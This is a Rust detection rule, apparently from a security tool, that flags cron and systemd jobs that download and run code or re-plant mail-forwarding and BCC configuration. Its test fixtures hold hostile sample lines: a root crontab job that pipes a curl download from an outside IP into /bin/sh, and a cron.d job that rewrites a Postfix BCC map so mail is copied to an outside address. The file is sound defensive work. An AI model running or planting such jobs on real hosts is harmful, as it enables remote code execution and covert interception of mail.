//! `persistence.cron` — scheduled commands that fetch and run code, open connections, run from
//! hidden or world-writable places, or rewrite the mail configuration (re-planting a forward
//! or BCC map the responder removes).
//!
//! **Why**: the sample attacker's root crontab pulls a script every 30 minutes and a cron.d job
//! puts the BCC map back every 20; cleaning the mail config without the cron job loses to it.
//! **How**: every job of `/etc/crontab`, `/etc/cron.d/*`, `/etc/anacrontab`, spool crontabs,
//! `cron.{hourly,daily,weekly,monthly}` scripts and systemd `ExecStart=` lines, judged by
//! [`crate::detect::host::risky_command`] and by whether it writes mail configuration
//! (`/etc/postfix`, aliases, `postmap`/`postalias`/`newaliases`, `postconf -e`, Exim, sendmail,
//! Dovecot, `.forward`, sieve) or names an outside mail address. **Severity**: high.
//! **ATT&CK**: T1053.003 (Scheduled Task/Job: Cron). **False positives**: a site's own map
//! rebuild job (`postmap` from a provisioning script): named by file and line for a check.

use super::super::host::{risky_command, Cites, ConfigRule, Host};
use crate::detect::finding::{Finding, Severity};
use crate::hostconf::cron::jobs;

/// The rule.
pub struct Cron;

const MAIL_CONFIG: &[&str] = &[
    "/etc/postfix",
    "/etc/aliases",
    "postmap",
    "postalias",
    "newaliases",
    "postconf -e",
    "/etc/exim",
    "/etc/mail/",
    "/etc/dovecot",
    ".forward",
    ".procmailrc",
    ".dovecot.sieve",
    "sieve/",
    ".qmail",
];

fn why(host: &Host, cmd: &str) -> Option<String> {
    if let Some(w) = risky_command(cmd) {
        return Some(w.to_string());
    }
    let touches = MAIL_CONFIG.iter().any(|m| cmd.contains(m));
    let writes = cmd.contains('>')
        || cmd.contains("postmap")
        || cmd.contains("postalias")
        || cmd.contains("newaliases")
        || cmd.contains("postconf -e")
        || cmd.contains("sed -i")
        || cmd.contains("cp ")
        || cmd.contains("tee ");
    if touches && writes {
        let ext = cmd
            .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ',' | '<' | '>'))
            .find(|w| w.contains('@') && host.domains.is_external(w));
        return Some(match ext {
            Some(a) => format!("rewrites mail configuration (names {a})"),
            None => "rewrites mail configuration".to_string(),
        });
    }
    None
}

impl ConfigRule for Cron {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        for (path, f) in &host.conf.files {
            for job in jobs(path, &f.text()) {
                let Some(reason) = why(host, &job.command) else {
                    continue;
                };
                let c = Cites::one(&host.conf, path, Some(job.line));
                let mut finding = c.finding(
                    "persistence.cron",
                    Severity::High,
                    vec!["T1053.003"],
                    format!("Scheduled job of {} {reason}", job.user),
                    format!(
                        "{path} line {} ({}, as {}): {} — {reason}",
                        job.line, job.schedule, job.user, job.command
                    ),
                );
                finding.entities.users.push(job.user.clone());
                out.push(finding);
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::config_tests::host;

    #[test]
    fn download_exec_and_replanting_jobs() {
        let h = host(&[
            ("/etc/mailname", "lab.example\n"),
            ("/var/spool/cron/crontabs/root", "30 3 * * * /usr/local/sbin/backup-mail.sh >/dev/null 2>&1\n*/30 * * * * /usr/bin/curl -fsS http://203.0.113.77/p.sh | /bin/sh\n"),
            ("/etc/cron.d/pf-maint", "SHELL=/bin/sh\n*/20 * * * * root grep -q a /etc/postfix/rbcc || (echo 'b@lab.example c@out.example' > /etc/postfix/rbcc && postmap /etc/postfix/rbcc)\n"),
        ]);
        let f = Cron.check(&h);
        let got: Vec<(String, Vec<u64>, String)> = f
            .iter()
            .map(|f| {
                (
                    f.entities.files[0].clone(),
                    f.evidence[0].lines.clone(),
                    f.title.clone(),
                )
            })
            .collect();
        assert_eq!(got.len(), 2, "{got:?}");
        assert_eq!(got[0].1, [2]);
        assert!(
            got[0]
                .2
                .contains("rewrites mail configuration (names c@out.example)"),
            "{got:?}"
        );
        assert_eq!(
            (got[1].0.as_str(), got[1].1.clone()),
            ("/var/spool/cron/crontabs/root", vec![2])
        );
    }

    #[test]
    fn ordinary_jobs_are_quiet() {
        let h = host(&[
            ("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
            ("/etc/cron.d/certbot", "0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"),
            ("/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n"),
            ("/etc/cron.d/pflogsumm", "10 0 * * * root /usr/sbin/pflogsumm -d yesterday /var/log/mail.log | mail -s stats postmaster\n"),
        ]);
        assert!(Cron.check(&h).is_empty(), "{:?}", Cron.check(&h));
    }
}
